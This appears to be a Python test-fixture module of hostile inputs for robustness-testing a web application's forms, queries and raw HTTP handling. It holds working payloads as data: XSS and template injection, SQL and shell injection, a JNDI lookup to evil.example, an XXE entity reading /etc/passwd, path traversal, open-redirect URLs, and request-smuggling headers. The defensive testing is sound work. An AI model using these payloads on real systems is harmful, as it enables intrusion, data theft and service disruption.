"""What somebody types, or a program sends, to see what breaks; and how it is sent."""

from collections.abc import Iterable, Mapping
from html.parser import HTMLParser
from urllib.parse import urlencode

KB = 1024
FORM = "application/x-www-form-urlencoded"

STRINGS: dict[str, str] = {
    # Lines and controls
    "a header more": "Claire\r\nBcc: eve@evil.example",
    "a body": "\r\n\r\n<script>alert(1)</script>",
    "line feed": "Cla\nire",
    "Unicode's line ends": "a\u2028b\u2029c\u0085d\x0be\x0cf",
    "NUL": "Cla\x00ire",
    "escape sequence": "\x1b[2J\x1b[31mred",
    "information separators": "a\x1cb\x1ed",
    "DEL and C1": "a\x7fb\x9bc",
    # Unicode
    "high surrogate": "a\ud800b",
    "low surrogate": "a\udfffb",
    "surrogates the wrong way round": "\ude00\ud83d",
    "replacement": "a\ufffdb",
    "noncharacter": "a\uffffb",
    "private use": "a\ue000b",
    "tags": "a\U000e0041\U000e007fb",
    "right to left override": "Du\u202epont\u202c",
    "isolates left open": "\u2066\u2067\u2068" * 20,
    "marks of direction": "a\u200e\u200f\u061cb",
    "zero width": "C\u200bl\u200ca\u200di\u2060re\ufeff",
    "soft hyphens": "Clai\u00adre",
    "Arabic and Hebrew": "\u0645\u062d\u0645\u062f \u05e9\u05dc\u05d5\u05dd",
    "emoji": "\U0001f600 \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1eb\U0001f1f7 \u2764\ufe0f",
    "combining marks": "Z" + "\u0301\u0316" * 40,
    "combining bomb": "a" + "\u0301" * 20_000 + "\u0316" * 20_000,
    "grows in NFKC": "\ufdfa" * 80,
    "grows when folded": "\u0130" * 64 + "\u00df" * 15,
    "full width markup": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "digits from elsewhere": "\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669\u0660\u0661\u0662\u0663\u0664",
    "superscripts": "\u00b9\u00b2\u00b3\u2460",
    # Markup and templates
    "script": "<script>alert(1)</script>",
    "out of an attribute": '"><svg onload=alert(1)>',
    "out of a quote": "' autofocus onfocus='alert(1)",
    "out of a text area": "</textarea></title><img src=x onerror=alert(1)>",
    "open comment": "<!-- <![CDATA[ <?php",
    "already escaped": "&lt;b&gt; &amp;amp; &#60;i&#62;",
    "address of a script": "javascript:alert(document.cookie)//",
    "template": "{{ settings.SECRET_KEY }}{% load static %}{# x #}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> *{7*7} @{7*7}",
    "Python format": "{0.__class__.__mro__} {name!r} {",
    "C format": "%(x)s %s %n %d %",
    "mail template": "[button]",
    "Markdown": "[ici](https://evil.example) **gras** `x`",
    # Other languages
    "SQL": "' OR '1'='1' --",
    "DROP TABLE": "Robert'); DROP TABLE accounts_user;--",
    "LIKE": "%_\\%",
    "shell": "$(id) `id` ; | && > /tmp/x",
    "jndi": "${jndi:ldap://evil.example/a}",
    "formula": "=HYPERLINK(1)+@SUM(-1)",
    "JSON": '{"a": [1, NaN, {"$gt": ""}]}',
    "path": "../../../../etc/passwd\\..\\con",
    "other site": "//evil.example/\\@evil.example:80",
    # Encoded twice
    "encoded twice": "%253Cscript%253E%2500",
    "encoded line end": "%0d%0aSet-Cookie:%20session=1",
    # Numbers, dates, lengths
    "negative": "-1",
    "float": "1e309",
    "no such date": "2026-02-30T25:61",
    "spaces": " \u00a0\u2003\t" * 100,
    "10 kB": "a" * 10 * KB,
    "200 kB": "a" * 200 * KB,
    "200 kB of digits": "9" * 200 * KB,
}


def form(fields: Mapping[str, str] | Iterable[tuple[str, str]]) -> bytes:
    """As a form sends it; half a surrogate pair goes too, which no browser would send."""
    pairs = fields.items() if isinstance(fields, Mapping) else fields
    return urlencode(list(pairs), encoding="utf-8", errors="surrogatepass").encode("ascii")


class Skeleton(HTMLParser):
    """The tags of a page and the names of their attributes: what a typed text must never change."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, ...]] = []
        self.words: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, *(name for name, _value in attributes)))
        self.words += [value or "" for _name, value in attributes]

    def handle_endtag(self, tag: str) -> None:
        self.tags.append((f"/{tag}",))

    def handle_comment(self, data: str) -> None:
        self.tags.append(("comment", data))

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def _multipart(*parts: bytes, end: bytes = b"--x--\r\n") -> bytes:
    return b"".join(b"--x\r\n" + part + b"\r\n" for part in parts) + end


def _part(name: bytes, value: bytes, more: bytes = b"", headers: bytes = b"") -> bytes:
    return b'Content-Disposition: form-data; name="' + name + b'"' + more + b"\r\n" + headers + b"\r\n" + value


FILE = b'; filename="../../x.html"'
MULTIPART = "multipart/form-data; boundary=x"
BODIES: dict[str, tuple[str, bytes]] = {
    "bytes that are no text": (FORM, b"login_address=%ff%fe%ed%a0%80&siret=\xff\xfe\x00&last_name=\xc0\x80"),
    "broken escapes": (FORM, b"login_address=%&siret=%zz%2&=%%%&&&;;;=="),
    "201 fields": (FORM, b"&".join(b"a%d=1" % number for number in range(201))),
    "20,000 fields": (FORM, b"&".join(b"a%d=1" % number for number in range(20_000))),
    "the same field often": (FORM, b"&".join([b"login_address=a@b.example", b"siret=1", b"answer=yes"] * 60)),
    "names that are nasty": (FORM, form([(text[:1000], text[:1000]) for text in STRINGS.values()])),
    "another charset": (f"{FORM}; charset=utf-16", b"login_address=a&siret=b"),
    "unknown charset": (f"{FORM}; charset=x-none", b"login_address=a&siret=b"),
    "JSON": ("application/json", b'{"login_address": "a@b.example", "siret": ["1"]}'),
    "text": ("text/plain", b"login_address=a@b.example"),
    "XML": ("application/xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    "no type": ("", b"login_address=a@b.example"),
    "a file for a field": (MULTIPART, _multipart(_part(b"login_address", b"<script>", FILE), _part(b"siret", b"1", FILE))),
    "fields in parts": (MULTIPART, _multipart(_part(b"login_address", b"\xff\x00\xed\xa0\x80"), _part(b"siret", b"\x00"))),
    "parts in bad base64": (MULTIPART, _multipart(_part(b"siret", b"%%%", headers=b"Content-Transfer-Encoding: base64\r\n"))),
    "cut parts": (MULTIPART, _multipart(_part(b"login_address", b"a"), end=b"--x\r\nContent-Disp")),
    "no boundary": ("multipart/form-data", _multipart(_part(b"siret", b"1"))),
    "strange boundary": ("multipart/form-data; boundary=\u00e9\x01", _multipart(_part(b"siret", b"1"))),
    "101 files": (MULTIPART, _multipart(*[_part(b"f%d" % number, b"x", FILE) for number in range(101)])),
    "201 parts": (MULTIPART, _multipart(*[_part(b"f%d" % number, b"x") for number in range(201)])),
}
QUERIES: dict[str, str] = {
    "201 parameters": "&".join(f"a{number}=1" for number in range(201)),
    "bytes that are no text": "language=%ff%fe&next=%ed%a0%80&key=%00&to=%00&errors=%c0%80",
    "raw bytes": "language=\xff\xfe&next=\xc3\xa9",
    "broken escapes": "%&=&&language=%zz&;;",
    "nasty language": "language=en%0d%0aSet-Cookie:x&language=../../en&language=" + "a" * 2000,
    "nasty parameters": form([("next", text[:500]) for text in STRINGS.values()]).decode(),
    "long": "next=" + "a" * 20_000,
}
OTHER_SITES = (
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    "https:evil.example",
    "https://evil.example",
    "http:///evil.example",
    "javascript:alert(1)",
    "/%09/evil.example",
    "/.//evil.example",
    "/%2f%2fevil.example",
    "https://testserver@evil.example",
    "\x00//evil.example",
    "\u2028//evil.example",
    "/\uff0fevil.example",
)
JSON: tuple[bytes, ...] = (
    b"",
    b"null",
    b"[]",
    b'"due"',
    b"{",
    b"\xff\xfe",
    b'{"advance": NaN}',
    b'{"advance": Infinity}',
    b'{"advance": -1}',
    b'{"advance": 1.5}',
    b'{"advance": true}',
    b'{"advance": 1e400}',
    b'{"advance": ' + b"9" * 30 + b"}",
    b'{"advance": ' + b"9" * 5000 + b"}",
    b'{"reset": 1}',
    b'{"run": ["due"]}',
    b'{"run": "\\ud800"}',
    b"[" * 100_000,
    b'{"a":' * 40_000,
)
_HEAD = b"POST /inscription HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"


def _declared(kind: bytes, body: bytes = b"siret=1") -> bytes:
    length = str(len(body)).encode()
    return (
        b"POST /inscription?a=1 HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: "
        + kind
        + b"\r\nContent-Length: "
        + length
        + b"\r\n\r\n"
        + body
    )


REQUESTS: tuple[bytes, ...] = (
    *(
        _declared(b"application/x-www-form-urlencoded; charset=" + name)
        for name in (b"rot13", b"hex", b"undefined", b"\x00", b"idna")
    ),
    _declared(b"application/x-www-form-urlencoded; charset*=utf-8''rot13"),
    _declared(b"multipart/form-data; charset=rot13; boundary=x", _multipart(_part(b"siret", b"1"))),
    b"GET /?language=en HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: text/plain; charset=rot13\r\n\r\n",
    _HEAD + b"Content-Length: 1000000\r\n\r\n" + b"a" * 1000,
    _HEAD + b"Content-Length: 3\r\n\r\n" + b"a=b" * 100,
    _HEAD + b"Content-Length: " + b"9" * 5000 + b"\r\n\r\na=b",
    _HEAD + b"Content-Length: -1\r\n\r\na=b",
    _HEAD + b"Content-Length: 3\r\nContent-Length: 4\r\n\r\na=bc",
    _HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"10000\r\n" + b"a" * 65536 + b"\r\n0\r\n\r\n",
    _HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + (b"10000\r\n" + b"a" * 65536 + b"\r\n") * 16 + b"0\r\n\r\n",
    _HEAD + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
    _HEAD + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n",
    b'GET /activation/lien/%00%ff HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: draft=\xff\xfe; device="\\000\xe9"\r\n\r\n',
    b"\x16\x03\x01\x02\x00\x01\x00\r\n\r\n",
)
